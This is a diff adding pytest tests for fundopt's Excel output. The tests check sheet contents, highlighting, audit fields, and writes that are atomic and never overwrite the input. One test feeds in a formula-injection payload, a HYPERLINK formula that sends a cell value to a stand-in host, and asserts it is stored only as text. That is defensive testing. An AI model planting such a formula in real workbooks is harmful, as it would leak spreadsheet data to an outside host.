@@ -1,0 +1,178 @@
+"""The results workbook: content, safety of text, and atomic, non-destructive writing."""
+
+from __future__ import annotations
+
+import errno
+import os
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from plans import hand_plan, sheet_rows
+from xlsx_fixtures import template, untouched
+
+from fundopt.errors import ExitCode, OutputError
+from fundopt.io import ExtraSheet, read_workbook, write_problem, write_workbook
+from fundopt.io.plan_sheets import SHEETS
+from fundopt.io.template import example_problem
+from fundopt.io.xlsx import HIGHLIGHT_FILL
+
+
+def test_sheets_and_numbers(tmp_path: Path) -> None:
+    plan = hand_plan()
+    out = write_workbook(plan, tmp_path / "plan.xlsx")
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == list(SHEETS)
+    rows = sheet_rows(out, "Allocations")
+    assert [r["amount (£m)"] for r in rows] == [10_000_000 / 1_000_000]
+    assert rows[0]["recipient_name"] == "Cumbria Constabulary"
+    assert wb["Allocations"]["J4"].number_format == "#,##0.000"
+    assert wb["Checks"]["B1"].value is True
+    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=3, max_row=8, values_only=True)}
+    assert summary["master check"] is True
+    assert summary["status"] == "optimal"
+    assert summary["fingerprint"] == plan.fingerprint
+    audit = {r["item"]: r["value"] for r in sheet_rows(out, "Audit")}
+    assert audit["HiGHS"] == "1.16.0"
+    assert audit["plan fingerprint"] == plan.fingerprint
+    assert audit["setting money_unit"] == "£m"
+    assert audit["solver option presolve"] == "on"
+    assert re.match(r"\d{4}-\d\d-\d\dT", str(audit["written (UTC)"]))
+    with zipfile.ZipFile(out) as z:
+        assert any(n.startswith("xl/charts/chart") for n in z.namelist())
+
+
+def test_master_check_fails_when_a_check_fails(tmp_path: Path) -> None:
+    out = write_workbook(hand_plan(passed=False), tmp_path / "plan.xlsx")
+    wb = openpyxl.load_workbook(out)
+    assert wb["Checks"]["B1"].value is False
+    assert wb["Summary"]["B4"].value is False
+
+
+def test_binding_limits_are_highlighted(tmp_path: Path) -> None:
+    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx")
+    ws = openpyxl.load_workbook(out)["Recipients by year"]
+    header = [c.value for c in ws[3]]
+    total = header.index("total 2026-27 (£m)") + 1
+    base = header.index("total 2025-26 (£m)") + 1
+    assert ws.cell(row=4, column=total).fill.fgColor.rgb == HIGHLIGHT_FILL.fgColor.rgb
+    assert ws.cell(row=4, column=base).fill.fgColor.rgb != HIGHLIGHT_FILL.fgColor.rgb
+    assert ws.cell(row=4, column=total).value == 112
+
+
+def _formula_cells(path: Path) -> list[str]:
+    with zipfile.ZipFile(path) as z:
+        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
+                and b"<f>" in z.read(n)]
+
+
+def test_text_from_input_never_becomes_a_formula(tmp_path: Path) -> None:
+    problem = example_problem()
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    recipients = problem.recipients.copy()
+    recipients["name"] = [evil]
+    problem = problem.replace(recipients=recipients)
+    out = write_workbook(hand_plan(problem), tmp_path / "plan.xlsx")
+    assert _formula_cells(out) == []
+    assert sheet_rows(out, "Allocations")[0]["recipient_name"] == evil
+    written = write_problem(problem, tmp_path / "problem.xlsx")
+    assert _formula_cells(written) == []
+    assert read_workbook(written).recipients["name"].tolist() == [evil]
+
+
+def test_extra_sheets(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"recipient": ["cumbria"], "change": [1_500_000.0]})
+    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx", extra_sheets={
+        "Winners/losers": ExtraSheet(frame, money_columns=("change",), note="vs today's method"),
+        "summary": frame,
+    })
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames[-2:] == ["Winners_losers", "summary (2)"]
+    ws = wb["Winners_losers"]
+    assert ws["A1"].value == "vs today's method"
+    assert [c.value for c in ws[3]] == ["recipient", "change (£m)"]
+    assert ws["B4"].value == 1.5
+
+
+# -- never over the input, never partial --------------------------------------------------------
+def test_refuses_to_overwrite_the_input(tmp_path: Path) -> None:
+    path = template(tmp_path)
+    plan = hand_plan(read_workbook(path))
+    with untouched(path):
+        for target in (path, tmp_path / "." / "input.xlsx"):
+            with pytest.raises(OutputError) as e:
+                write_workbook(plan, target, overwrite=True)
+            assert e.value.code == "FO-O01"
+    link = tmp_path / "link.xlsx"
+    link.symlink_to(path)
+    with untouched(path), pytest.raises(OutputError, match="input workbook"):
+        write_workbook(plan, link, overwrite=True)
+
+
+def test_refuses_an_existing_file_unless_allowed(tmp_path: Path) -> None:
+    target = tmp_path / "plan.xlsx"
+    target.write_bytes(b"old")
+    with untouched(target), pytest.raises(OutputError) as e:
+        write_workbook(hand_plan(), target)
+    assert e.value.code == "FO-O02" and e.value.exit_code is ExitCode.OUTPUT
+    write_workbook(hand_plan(), target, overwrite=True)
+    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"
+
+
+def test_bad_targets(tmp_path: Path) -> None:
+    with pytest.raises(OutputError, match="does not exist") as e:
+        write_workbook(hand_plan(), tmp_path / "missing" / "plan.xlsx")
+    assert e.value.code == "FO-O14"
+    with pytest.raises(OutputError, match="end in .xlsx"):
+        write_workbook(hand_plan(), tmp_path / "plan.csv")
+    assert os.listdir(tmp_path) == []
+
+
+@pytest.mark.parametrize("existing", [False, True])
+def test_a_failed_write_leaves_nothing_partial(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                               existing: bool) -> None:
+    target = tmp_path / "plan.xlsx"
+    if existing:
+        target.write_bytes(b"previous results")
+
+    def disk_full(self: object, f: object) -> None:
+        assert hasattr(f, "write")
+        f.write(b"PK partial")  # type: ignore[attr-defined]
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(openpyxl.Workbook, "save", disk_full)
+    before = sorted(os.listdir(tmp_path))
+    with pytest.raises(OutputError) as e:
+        write_workbook(hand_plan(), target, overwrite=True)
+    assert e.value.code == "FO-O05"
+    assert sorted(os.listdir(tmp_path)) == before
+    if existing:
+        assert target.read_bytes() == b"previous results"
+
+
+def test_output_file_permissions_are_normal(tmp_path: Path) -> None:
+    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx")
+    umask = os.umask(0)
+    os.umask(umask)
+    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
+
+
+# -- problems written in the template format -------------------------------------------------------
+@pytest.mark.parametrize("unit", ["£", "£k", "£m"])
+def test_write_problem_round_trip(tmp_path: Path, unit: str) -> None:
+    from fundopt.problem import Settings
+
+    problem = example_problem()
+    problem = problem.replace(settings=Settings(name="Round trip", money_unit=unit,  # type: ignore[arg-type]
+                                                time_limit_seconds=30.0))
+    sources = pd.DataFrame({"table": ["envelopes"], "source": ["Home Office main estimate"]})
+    path = write_problem(problem, tmp_path / "problem.xlsx", extra_sheets={"Sources": sources})
+    again = read_workbook(path)
+    assert again.settings == problem.settings
+    for name, table in problem.tables().items():
+        pd.testing.assert_frame_equal(again.tables()[name].reset_index(drop=True),
+                                      table.reset_index(drop=True), obj=name)
+    assert openpyxl.load_workbook(path)["Sources"]["B2"].value == "Home Office main estimate"
